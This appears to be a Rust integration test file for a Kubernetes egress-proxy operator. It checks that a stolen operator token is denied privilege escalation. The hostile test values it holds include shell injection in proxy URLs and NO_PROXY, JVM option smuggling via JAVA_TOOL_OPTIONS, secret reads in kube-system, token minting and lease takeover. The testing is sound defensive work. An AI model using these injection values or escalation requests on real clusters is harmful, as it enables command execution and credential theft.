    let env_patch = |env: Value| json!({"spec": {"template": {"spec": {"containers": [{"name": "api", "env": [env]}]}}}});
    let proxy_ref = env_patch(json!({"name": "HTTPS_PROXY", "valueFrom": {"secretKeyRef":
        {"name": "egress-proxy-corp", "key": "HTTPS_PROXY"}}}));
    let shell_url = "http://svc:x$(touch$IFS'PWNED')@proxy.corp.example:3128";
    let proxy_shell = env_patch(json!({"name": "HTTPS_PROXY", "value": shell_url}));
    let no_proxy_shell = env_patch(json!({"name": "NO_PROXY", "value": ".svc,$(HTTPS_PROXY)"}));
    let config_map = |no_proxy: &str| {
        json!({"metadata": {"generateName": "egress-proxy-z-", "labels":
            {"app.kubernetes.io/managed-by": "egress-proxy-operator"}},
            "data": {"NO_PROXY": no_proxy}})
    };
    let secret = json!({"metadata": {"name": "egress-proxy-x"}, "type": "Opaque"});
    let managed = json!({"metadata": {"name": "egress-proxy-y", "labels":
        {"app.kubernetes.io/managed-by": "egress-proxy-operator"}}, "type": "Opaque"});
    let other_name = json!({"metadata": {"name": "db-password", "labels":
        {"app.kubernetes.io/managed-by": "egress-proxy-operator"}}, "type": "Opaque"});
    let take_over = json!({"metadata": {"labels":
        {"app.kubernetes.io/managed-by": "egress-proxy-operator"}}, "stringData": {"x": "y"}});
    let image = json!({"spec": {"template": {"spec": {"containers": [{"name": "api", "image": "evil:1"}]}}}});
    let privileged_pod = json!({"spec": {"template": {"spec": {"hostPID": true}}}});
    let account = json!({"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}});
    let scale = json!({"spec": {"replicas": 0}});
    let java = |value: &str| {
        json!({"spec": {"template": {"spec": {"containers":
        [{"name": "api", "env": [{"name": "JAVA_TOOL_OPTIONS", "value": value}]}]}}}})
    };
    let ours = "-Degressproxy.managed=egress-proxy-corp -Dhttp.proxyHost=p -Dhttp.proxyPort=3128 \
        -Dhttps.proxyHost=p -Dhttps.proxyPort=3128 -Dhttp.nonProxyHosts=*.svc";
    let java_part = java(ours);
    let java_command = java(&format!("-XX:OnOutOfMemoryError=sh {ours}"));
    let java_quoted = java(&ours.replace("proxyHost=p ", "proxyHost='p -javaagent:/x.jar' "));
    let marker = "-Degressproxy.managed=egress-proxy-corp";
    let java_second = java(&format!(
        "{marker} -agentlib:jdwp=transport=dt_socket {ours}"
    ));
    let java_tab = java(&ours.replace("proxyHost=p ", "proxyHost=p\t-agentlib:jdwp=server=y "));
    let java_expand = java(&ours.replace("proxyHost=p ", "proxyHost=$(NO_PROXY) "));
    let job_tpl = |pod: serde_json::Value| json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": pod}}}}});
    let cron_env = job_tpl(json!({"containers":
        [{"name": "job", "env": [{"name": "HTTPS_PROXY", "value": "http://evil:3128"}]}]}));
    let cron_ref = job_tpl(
        json!({"containers": [{"name": "job", "env": [{"name": "HTTPS_PROXY",
        "valueFrom": {"secretKeyRef": {"name": "egress-proxy-corp", "key": "HTTPS_PROXY"}}}]}]}),
    );
    let cron_image = job_tpl(json!({"containers": [{"name": "job", "image": "evil:1"}]}));
    let cron_account = job_tpl(json!({"serviceAccountName": "admin"}));
    let cron_schedule = json!({"spec": {"schedule": "* * * * *"}});
    let cron_parallel = json!({"spec": {"jobTemplate": {"spec": {"parallelism": 50}}}});
    let policy_spec = json!({"spec": {"suspend": true}});
    let label = json!({"metadata": {"labels": {"egressproxy.io/enabled": "true"}}});
    let probe = probe_job("0", |_| {});
    let other_image = probe_job("1", |j| probe_container(j)["image"] = json!("evil:1"));
    let with_token = probe_job("2", |j| {
        pod(j)["automountServiceAccountToken"] = json!(true)
    });
    let as_admin = probe_job("3", |j| pod(j)["serviceAccountName"] = json!("admin"));
    let lease = json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
        "metadata": {"name": "egress-proxy-operator"},
        "spec": {"holderIdentity": "thief", "leaseDurationSeconds": 3600}});
    vec![
        (
            "read a Secret in kube-system",
            "GET",
            "/api/v1/namespaces/kube-system/secrets/admin-token",
            None,
            false,
        ),
        (
            "list the Secrets of every namespace",
            "GET",
            "/api/v1/secrets",
            None,
            false,
        ),
        (
            "list the Secrets of a namespace that did not opt in",
            "GET",
            "/api/v1/namespaces/team-n/secrets",
            None,
            false,
        ),
        (
            "read the source Secret its owner granted",
            "GET",
            "/api/v1/namespaces/platform/secrets/corp-proxy",
            None,
            true,
        ),
        (
            "read another Secret of the source namespace",
            "GET",
            "/api/v1/namespaces/platform/secrets/other",
            None,
            false,
        ),
        (
            "list the Secrets of an opted-in namespace",
            "GET",
            "/api/v1/namespaces/team-a/secrets",
            None,
            true,
        ),
        (
            "mint a token: create a service-account-token Secret in kube-system",
            "POST",
            "/api/v1/namespaces/kube-system/secrets",
            Some(token_secret),
            false,
        ),
        (
            "mint a token: TokenRequest for a kube-system ServiceAccount",
            "POST",
            "/api/v1/namespaces/kube-system/serviceaccounts/admin/token",
            Some(json!({"spec": {"audiences": []}})),
            false,
        ),
        (
            "create a ClusterRoleBinding",
            "POST",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            Some(crb),
            false,
        ),
        (
            "bind the tenant role itself in a namespace that did not opt in",
            "POST",
            "/apis/rbac.authorization.k8s.io/v1/namespaces/team-n/rolebindings",
            Some(rb),
            false,
        ),
        (
            "opt a namespace in: label it",
            "PATCH",
            "/api/v1/namespaces/team-n",
            Some(label),
            false,
        ),
        (
            "patch a kube-system DaemonSet to a privileged image",
            "PATCH",
            "/apis/apps/v1/namespaces/kube-system/daemonsets/node-agent",
            Some(privileged),
            false,
        ),
        (
            "set HTTPS_PROXY on a workload of a namespace that did not opt in",
            "PATCH",
            "/apis/apps/v1/namespaces/team-n/deployments/own",
            Some(proxy_env.clone()),
            false,
        ),
        (
            "create a Secret in a namespace that did not opt in",
            "POST",
            "/api/v1/namespaces/team-n/secrets",
            Some(secret.clone()),
            false,
        ),
        (
            "list the ConfigMaps of every namespace",
            "GET",
            "/api/v1/configmaps",
            None,
            false,
        ),
        (
            "list the Pods of every namespace",
            "GET",
            "/api/v1/pods",
            None,
            false,
        ),
        (
            "list the Pods of a namespace that did not opt in",
            "GET",
            "/api/v1/namespaces/team-n/pods",
            None,
            false,
        ),
        (
            "list the Pods of an opted-in namespace",
            "GET",
            "/api/v1/namespaces/team-a/pods",
            None,
            true,
        ),
        (
            "delete a Namespace",
            "DELETE",
            "/api/v1/namespaces/team-n",
            None,
            false,
        ),
        (
            "read the workloads of every namespace (their pod templates)",
            "GET",
            "/apis/apps/v1/deployments",
            None,
            true,
        ),
        (
            "create an unlabelled egress-proxy-* Secret in an opted-in namespace",
            "POST",
            "/api/v1/namespaces/team-a/secrets",
            Some(secret),
            false,
        ),
        (
            "create a labelled egress-proxy-* Secret in an opted-in namespace",
            "POST",
            "/api/v1/namespaces/team-a/secrets",
            Some(managed),
            true,
        ),
        (
            "write NO_PROXY into a labelled egress-proxy-* ConfigMap in an opted-in namespace",
            "POST",
            "/api/v1/namespaces/team-a/configmaps",
            Some(config_map(".svc,10.0.0.0/8,[fd00::1]")),
            true,
        ),
        (
            "write shell code into a managed ConfigMap's NO_PROXY",
            "POST",
            "/api/v1/namespaces/team-a/configmaps",
            Some(config_map(".svc,`id`;$(touch$IFS'PWNED')")),
            false,
        ),
        (
            "create a Secret with another name in an opted-in namespace",
            "POST",
            "/api/v1/namespaces/team-a/secrets",
            Some(other_name),
            false,
        ),
        (
            "take over a user's Secret that has the managed name but not the label",
            "PATCH",
            "/api/v1/namespaces/team-a/secrets/egress-proxy-user",
            Some(take_over),
            false,
        ),
        (
            "change the image of a workload in an opted-in namespace",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(image),
            false,
        ),
        (
            "give a workload of an opted-in namespace the host's PID namespace",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(privileged_pod),
            false,
        ),
        (
            "run a workload of an opted-in namespace as another ServiceAccount",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(account),
            false,
        ),
        (
            "scale a workload of an opted-in namespace to zero",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(scale),
            false,
        ),
        (
            "append its options to a container's JAVA_TOOL_OPTIONS (dialect java)",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(java_part),
            true,
        ),
        (
            "run a command from a JVM: add -XX:OnOutOfMemoryError to JAVA_TOOL_OPTIONS",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(java_command),
            false,
        ),
        (
            "hide a -javaagent option in a quoted proxy host of JAVA_TOOL_OPTIONS",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(java_quoted),
            false,
        ),
        (
            "hide a JVM option between two markers in JAVA_TOOL_OPTIONS",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(java_second),
            false,
        ),
        (
            "add a JVM option after a tab in the proxy host of JAVA_TOOL_OPTIONS",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(java_tab),
            false,
        ),
        (
            "expand another variable into JAVA_TOOL_OPTIONS with $(NO_PROXY)",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(java_expand),
            false,
        ),
        (
            "run a probe Job in an opted-in namespace",
            "POST",
            "/apis/batch/v1/namespaces/team-a/jobs",
            Some(probe.clone()),
            true,
        ),
        (
            "run a Job with another image in an opted-in namespace",
            "POST",
            "/apis/batch/v1/namespaces/team-a/jobs",
            Some(other_image),
            false,
        ),
        (
            "run a probe Job with a ServiceAccount token",
            "POST",
            "/apis/batch/v1/namespaces/team-a/jobs",
            Some(with_token),
            false,
        ),
        (
            "run a probe Job as another ServiceAccount",
            "POST",
            "/apis/batch/v1/namespaces/team-a/jobs",
            Some(as_admin),
            false,
        ),
        (
            "run a probe Job in a namespace that did not opt in",
            "POST",
            "/apis/batch/v1/namespaces/team-n/jobs",
            Some(probe),
            false,
        ),
        (
            "delete a Job of an opted-in namespace",
            "DELETE",
            "/apis/batch/v1/namespaces/team-a/jobs/egress-proxy-verify-0",
            None,
            false,
        ),
        (
            "delete a workload of an opted-in namespace",
            "DELETE",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            None,
            false,
        ),
        (
            "change the spec of an EgressProxyPolicy",
            "PATCH",
            "/apis/egressproxy.io/v1alpha1/namespaces/team-a/egressproxypolicies/corp",
            Some(policy_spec),
            false,
        ),
        (
            "set HTTPS_PROXY on a workload of an opted-in namespace from a managed Secret",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(proxy_ref),
            true,
        ),
        (
            "set HTTPS_PROXY on a workload of an opted-in namespace to a value",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(proxy_env),
            false,
        ),
        (
            "set HTTPS_PROXY to a URL with shell code in its password",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(proxy_shell),
            false,
        ),
        (
            "set NO_PROXY to a value that expands $(HTTPS_PROXY)",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/api",
            Some(no_proxy_shell),
            false,
        ),
        (
            "set HTTPS_PROXY on a CronJob of an opted-in namespace from a managed Secret",
            "PATCH",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            Some(cron_ref),
            true,
        ),
        (
            "set HTTPS_PROXY on a CronJob of an opted-in namespace to a value",
            "PATCH",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            Some(cron_env),
            false,
        ),
        (
            "change the image of a CronJob in an opted-in namespace",
            "PATCH",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            Some(cron_image),
            false,
        ),
        (
            "run a CronJob's Jobs as another ServiceAccount",
            "PATCH",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            Some(cron_account),
            false,
        ),
        (
            "change a CronJob's schedule",
            "PATCH",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            Some(cron_schedule),
            false,
        ),
        (
            "change how many Pods a CronJob's Jobs run",
            "PATCH",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            Some(cron_parallel),
            false,
        ),
        (
            "delete a CronJob in an opted-in namespace",
            "DELETE",
            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
            None,
            false,
        ),
        (
            "validate a token it holds: create a TokenReview",
            "POST",
            "/apis/authentication.k8s.io/v1/tokenreviews",
            Some(json!({"spec": {"token": "not-a-token"}})),
            true,
        ),
        (
            "ask what another user may do: create a SubjectAccessReview",
            "POST",
            "/apis/authorization.k8s.io/v1/subjectaccessreviews",
            Some(json!({"spec": {"user": "alice",
                "nonResourceAttributes": {"path": "/metrics", "verb": "get"}}})),
            true,
        ),
        (
            "create the leader-election Lease in the operator's namespace",
            "POST",
            "/apis/coordination.k8s.io/v1/namespaces/egress-proxy-system/leases",
            Some(lease.clone()),
            true,
        ),
        (
            "hold the operator's Lease, so that its replicas stand by",
            "PUT",
            "/apis/coordination.k8s.io/v1/namespaces/egress-proxy-system/leases/egress-proxy-operator",
            Some(lease.clone()),
            true,
        ),
        (
            "take another component's Lease (kube-system)",
            "PUT",
            "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager",
            Some(lease),
            false,
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_token_can_do_only_what_docs_security_md_says() {
    let env = cluster().await;
    let client = env.sim.client_with_token(&token(&env)).expect("client");
    let mut table = String::new();
    let mut wrong = Vec::new();
    let rows = attempts()
        .into_iter()
        .chain(probe_job_refusals())
        .map(|a| (a, None))
        .chain(trust_attempts());
    for ((what, method, path, body, can), because) in rows {
        let (status, reply) = send(&client, method, path, body).await;
        let allowed = (200..300).contains(&status);
        let row = format!(
            "| {what} | {} ({status}) |",
            if allowed { "yes" } else { "no" }
        );
        if allowed != can {
            wrong.push(format!("{row} {reply}"));
        }
        if let Some(because) = because.filter(|b| !allowed && !reply.contains(b)) {
            wrong.push(format!("{row} refused, but not for \"{because}\": {reply}"));
        }
        if reply.contains("PRIVATE KEY-----") {
            wrong.push(format!("{row}: the reply echoes the private key"));
        }
        if !SECURITY.contains(&row) {
            wrong.push(format!("not in docs/security.md: {row}"));
        }
        table.push_str(&row);
        table.push('\n');
    }
    assert!(wrong.is_empty(), "{}\nmeasured:\n{table}", wrong.join("\n"));

    // Every dialect the builder may name is on the allow-list.
    for (n, dialect) in Dialect::ALL.iter().enumerate() {
        let job = probe_job(&format!("d{n}"), |j| {
            probe_container(j)["args"][2] = json!(dialect.name())
        });
        let (status, reply) = send(
            &client,
            "POST",
            "/apis/batch/v1/namespaces/team-a/jobs",
            Some(job),
        )
        .await;
        assert_eq!(status, 201, "dialect {}: {reply}", dialect.name());
    }

    // A denial does not echo what was sent.
    let body = json!({"metadata": {"name": "leak"}, "stringData": {"p": PASSWORD}});
    let (status, reply) = send(
        &client,
        "POST",
        "/api/v1/namespaces/team-a/secrets",
        Some(body),
    )
    .await;
    assert_eq!(status, 422, "{reply}");
    assert!(
        !reply.contains(PASSWORD),
        "the denial echoes the password: {reply}"
    );
}

/// The operator binary, run as the shipped ServiceAccount; its logs go to a file.
struct Running {
    child: Child,
    logs: PathBuf,
}

impl Running {
    fn start(env: &Env, dir: &Path) -> Running {
        let kubeconfig = dir.join("kubeconfig");
        let config = format!(
            "apiVersion: v1\nkind: Config\nclusters: [{{name: sim, cluster: {{server: \"{}\"}}}}]\n\
             users: [{{name: operator, user: {{token: \"{}\"}}}}]\n\
             contexts: [{{name: sim, context: {{cluster: sim, user: operator}}}}]\n\
             current-context: sim\n",
            env.sim.base_url(),
            token(env)
        );
        std::fs::write(&kubeconfig, config).expect("kubeconfig");
        let logs = dir.join("operator.log");
        let out = std::fs::File::create(&logs).expect("log file");
        let child = Command::new(env!("CARGO_BIN_EXE_egress-proxy-operator"))
            .args([
                "run",
                // Under the shipped Lease Role, as the chart runs it.
                "--leader-elect",
                "--lease-namespace",
                "egress-proxy-system",
                "--source-recheck",
                "1",
                "--log-level",
                "debug",
                "--kubeconfig",
            ])
            .arg(&kubeconfig)
            // The probe image the chart passes (its appVersion), which the admission policy
            // allows probe Jobs to run.
            .arg("--probe-image=egress-proxy-operator:0.1.0")
            .stdout(out.try_clone().expect("log file"))
            .stderr(out)
            .stdin(Stdio::null())
            .spawn()
            .expect("start the operator");
        Running { child, logs }
    }

    fn stop(mut self) -> String {
        let _ = self.child.kill();
        let _ = self.child.wait();
        std::fs::read_to_string(&self.logs).expect("logs")
    }
}

/// A policy with `spec.verification` under the shipped RBAC and admission policy: the
/// operator may create its probe Job, read it and its Pods (the image is not run here, so
/// the Pod waits; the message proves the Pod was read).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn probe_jobs_pass_the_shipped_rbac_and_admission_policy() {
    let env = cluster().await;
    env.sim
        .apply_yaml(
            r#"
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: verified, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: verified}}
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
  verification:
    endpoints: [{url: "https://status.example.com/", expect: Proxied}]
---
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: verified-java, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: verified-java}}
  noProxy: {dialect: java, additional: [db.internal, "10.9.0.0/16"]}
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
  verification:
    endpoints: [{url: "https://status.example.com/$(HTTPS_PROXY)", expect: Proxied}]
"#,
        )
        .expect("policies");
    let dir = std::env::temp_dir().join(format!("epo-probe-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("tmp dir");
    let op = Running::start(&env, &dir);
    let message = eventually("the probe Job's Pod read", || async {
        let p = env.policy("team-a", "verified").await;
        let c = p
            .status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "Verified")?;
        c.message.contains("ErrImagePull").then_some(c.message)
    })
    .await;
    assert!(message.contains("checking slot main"), "{message}");
    // The java dialect's options and a URL with `$(...)` pass as the builder writes them.
    eventually("the java policy's probe Pod read", || async {
        let p = env.policy("team-a", "verified-java").await;
        let c = p
            .status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "Verified")?;
        c.message.contains("ErrImagePull").then_some(())
    })
    .await;
    let jobs = Api::<k8s_openapi::api::batch::v1::Job>::namespaced(env.client.clone(), "team-a")
        .list(&Default::default())
        .await
        .expect("jobs");
    assert_eq!(jobs.items.len(), 2);
    let args = serde_json::to_string(&jobs.items).expect("json");
    assert!(
        args.contains("https://status.example.com/$$(HTTPS_PROXY)=Proxied"),
        "{args}"
    );
    op.stop();
    let _ = std::fs::remove_dir_all(&dir);
}

/// The proxy variables of the CronJob `report`'s pod template, by name.
async fn cron_env(env: &Env) -> Vec<String> {
    let api = Api::<k8s_openapi::api::batch::v1::CronJob>::namespaced(env.client.clone(), "team-a");
    let cj = api.get("report").await.expect("get CronJob");
    let spec = cj
        .spec
        .and_then(|s| s.job_template.spec)
        .and_then(|s| s.template.spec);
    let containers = spec.map(|s| s.containers).unwrap_or_default();
    containers
        .into_iter()
        .flat_map(|c| c.env.unwrap_or_default())
        .map(|e| e.name)
        .collect()
}

/// A policy over a CronJob under the shipped RBAC and admission policy: the operator writes
/// the job template's proxy variables, and takes them out again when the policy goes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cronjobs_pass_the_shipped_rbac_and_admission_policy() {
    let env = cluster().await;
    env.sim
        .apply_yaml(
            r#"
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: nightly, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: nightly}}
  workloadKinds: [CronJob]
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: report, namespace: team-a, labels: {egress: nightly}}
spec:
  schedule: "0 4 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: report, image: report:1, env: [{name: LEVEL, value: info}]}]
"#,
        )
        .expect("policy and CronJob");
    let dir = std::env::temp_dir().join(format!("epo-cron-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("tmp dir");
    let op = Running::start(&env, &dir);
    wait_reason(&env, "team-a", "nightly", "Reconciled").await;
    let names = cron_env(&env).await;
    for v in [
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "NO_PROXY",
        "http_proxy",
        "https_proxy",
        "no_proxy",
    ] {
        assert!(names.iter().any(|n| n == v), "{v} not in {names:?}");
    }
    Api::<egress_proxy_operator::api::EgressProxyPolicy>::namespaced(env.client.clone(), "team-a")
        .delete("nightly", &Default::default())
        .await
        .expect("delete policy");
    eventually("the CronJob released", || async {
        (cron_env(&env).await == ["LEVEL"]).then_some(())
    })
    .await;
    let logs = op.stop();
    assert!(!logs.contains("denied request"), "{logs}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// The `JAVA_TOOL_OPTIONS` value of the Deployment `jvm`'s container.
async fn jvm_options(env: &Env) -> Option<String> {
    let d = env.deployment("team-a", "jvm").await;
    let spec = d.spec.and_then(|s| s.template.spec)?;
    let env = spec.containers.into_iter().next()?.env?;
    env.into_iter()
        .find(|e| e.name == "JAVA_TOOL_OPTIONS")?
        .value
}

/// A `java` policy under the shipped RBAC and admission policy: the operator appends its
/// options to the container's own `JAVA_TOOL_OPTIONS`, and gives the own value back when
/// the policy goes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn java_policies_pass_the_shipped_admission_policy() {
    let env = cluster().await;
    env.sim
        .apply_yaml(
            r#"
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: jvm, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: jvm}}
  noProxy: {dialect: java}
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: jvm, namespace: team-a, labels: {egress: jvm}}
spec:
  selector: {matchLabels: {app: jvm}}
  template:
    metadata: {labels: {app: jvm}}
    spec:
      containers:
        - {name: app, image: app:1, env: [{name: JAVA_TOOL_OPTIONS, value: "-Xmx256m"}]}
"#,
        )
        .expect("policy and Deployment");
    let dir = std::env::temp_dir().join(format!("epo-java-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("tmp dir");
    let op = Running::start(&env, &dir);
    wait_reason(&env, "team-a", "jvm", "Reconciled").await;
    let merged = jvm_options(&env).await.expect("JAVA_TOOL_OPTIONS");
    assert!(
        merged.starts_with("-Xmx256m -Degressproxy.managed=egress-proxy-jvm -Dhttp.proxyHost="),
        "{merged}"
    );
    assert!(!merged.contains(PASSWORD), "{merged}");
    // The operator's token cannot drop the container's own options, nor slip one in.
    let client = env.sim.client_with_token(&token(&env)).expect("client");
    let path = "/apis/apps/v1/namespaces/team-a/deployments/jvm";
    let drop = json!({"spec": {"template": {"spec": {"containers":
        [{"name": "app", "env": [{"name": "JAVA_TOOL_OPTIONS", "$patch": "delete"}]}]}}}});
    let (status, reply) = send(&client, "PATCH", path, Some(drop)).await;
    assert_eq!(status, 422, "{reply}");
    let sneak = merged.replace("-Xmx256m ", "-Xmx256m -XX:OnOutOfMemoryError=sh ");
    let sneak = json!({"spec": {"template": {"spec": {"containers":
        [{"name": "app", "env": [{"name": "JAVA_TOOL_OPTIONS", "value": sneak}]}]}}}});
    let (status, reply) = send(&client, "PATCH", path, Some(sneak)).await;
    assert_eq!(status, 422, "{reply}");
    Api::<egress_proxy_operator::api::EgressProxyPolicy>::namespaced(env.client.clone(), "team-a")
        .delete("jvm", &Default::default())
        .await
        .expect("delete policy");
    eventually("the own options given back", || async {
        (jvm_options(&env).await.as_deref() == Some("-Xmx256m")).then_some(())
    })
    .await;
    let logs = op.stop();
    assert!(!logs.contains("denied request"), "{logs}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// What of the operator's trust a pod template carries: the trust volume's ConfigMap, the
/// containers (init containers too) that mount it read-only at the trust path, the trust
/// variables they read from that ConfigMap's key of the same name, and the annotation.
#[derive(Debug, Default, PartialEq)]
struct TrustSeen {
    config_map: Option<String>,
    mounted: Vec<String>,
    vars: Vec<String>,
    bundle: Option<String>,
}

fn trust_seen(t: &PodTemplateSpec) -> TrustSeen {
    let spec = t.spec.as_ref();
    let config_map = spec
        .and_then(|s| s.volumes.as_ref())
        .and_then(|v| v.iter().find(|v| v.name == "egress-proxy-trust"))
        .and_then(|v| v.config_map.as_ref())
        .map(|c| c.name.clone());
    let containers = spec.into_iter().flat_map(|s| {
        s.containers
            .iter()
            .chain(s.init_containers.iter().flatten())
    });
    let mut seen = TrustSeen {
        bundle: t
            .metadata
            .as_ref()
            .and_then(|m| m.annotations.as_ref())
            .and_then(|a| a.get("egressproxy.io/trust-bundle"))
            .cloned(),
        ..Default::default()
    };
    for c in containers {
        let mounts = c.volume_mounts.iter().flatten();
        if mounts
            .filter(|m| m.name == "egress-proxy-trust")
            .any(|m| m.mount_path == TRUST_DIR && m.read_only == Some(true))
        {
            seen.mounted.push(c.name.clone());
        }
        let trust = c.env.iter().flatten();
        for e in trust.filter(|e| TRUST_VARS.contains(&e.name.as_str())) {
            let from = e
                .value_from
                .as_ref()
                .and_then(|f| f.config_map_key_ref.as_ref());
            if from.is_some_and(|r| r.key == e.name && Some(&r.name) == config_map.as_ref()) {
                seen.vars.push(format!("{}/{}", c.name, e.name));
            }
        }
    }
    seen.config_map = config_map;
    seen
}

/// The pod template of the CronJob `name` in team-a.
async fn cron_template(env: &Env, name: &str) -> PodTemplateSpec {
    let api = Api::<k8s_openapi::api::batch::v1::CronJob>::namespaced(env.client.clone(), "team-a");
    let cj = api.get(name).await.expect("get CronJob");
    cj.spec
        .and_then(|s| s.job_template.spec)
        .map(|s| s.template)
        .expect("job template")
}

const TRUST_POLICIES: &str = r#"
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: tls-java, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: tls-java}}
  noProxy: {dialect: java}
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
  trust:
    sources: [{configMap: {name: corp-ca, namespace: platform, key: ca.crt}}]
---
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: tls-go, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: tls-go}}
  workloadKinds: [Deployment, CronJob]
  noProxy: {dialect: go}
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
  trust:
    sources: [{secret: {name: team-ca, key: ca.crt}}]
    roots: Replace
---
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {name: tls-probe, namespace: team-a}
spec:
  workloadSelector: {matchLabels: {egress: tls-probe}}
  noProxy: {dialect: java}
  proxy:
    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
    active: main
  trust:
    sources: [{configMap: {name: corp-ca, namespace: platform, key: ca.crt}}]
  verification:
    endpoints: [{url: "https://status.example.com/", expect: Proxied}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: jvm-tls, namespace: team-a, labels: {egress: tls-java}}
spec:
  selector: {matchLabels: {app: jvm-tls}}
  template:
    metadata: {labels: {app: jvm-tls}}
    spec:
      volumes: [{name: data, emptyDir: {}}]
      initContainers: [{name: init, image: init:1}]
      containers:
        - name: app
          image: app:1
          volumeMounts: [{name: data, mountPath: /data}]
          env: [{name: JAVA_TOOL_OPTIONS, value: "-Xmx256m"}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: go-tls, namespace: team-a, labels: {egress: tls-go}}
spec:
  selector: {matchLabels: {app: go-tls}}
  template:
    metadata: {labels: {app: go-tls}}
    spec: {containers: [{name: app, image: app:1}]}
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: go-report, namespace: team-a, labels: {egress: tls-go}}
spec:
  schedule: "0 4 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: report, image: report:1}]
"#;

/// `spec.trust` under the shipped RBAC and admission policy, with CAs generated here: a
/// ConfigMap of another namespace granted as deploy/source-grant.yaml shows, and a Secret of
/// the policy's own namespace. The operator writes the managed ConfigMaps' trust keys,
/// mounts the bundle into a Deployment (its init container too) and a CronJob, appends the
/// trust store to JAVA_TOOL_OPTIONS, runs a probe Job with the bundle, and takes it all out
/// again when the policies go, without one write refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trust_passes_the_shipped_rbac_and_admission_policy() {
    let env = cluster().await;
    let (corp_ca, _) = test_ca("Corp Proxy CA");
    let (team_ca, _) = test_ca("Team CA");
    // The owner of platform/corp-ca puts the proxy's CA into the granted ConfigMap.
    let data = json!({"data": {"ca.crt": corp_ca}});
    Api::<ConfigMap>::namespaced(env.client.clone(), "platform")
        .patch("corp-ca", &PatchParams::default(), &Patch::Merge(data))
        .await
        .expect("the granted CA ConfigMap");
    let secret = json!({"metadata": {"name": "team-ca"}, "stringData": {"ca.crt": team_ca}});
    Api::<Secret>::namespaced(env.client.clone(), "team-a")
        .create(
            &Default::default(),
            &serde_json::from_value::<Secret>(secret).expect("secret"),
        )
        .await
        .expect("the team's CA Secret");
    env.sim
        .apply_yaml(TRUST_POLICIES)
        .expect("policies and workloads");
    let dir = std::env::temp_dir().join(format!("epo-trust-{}", std::process::id()));
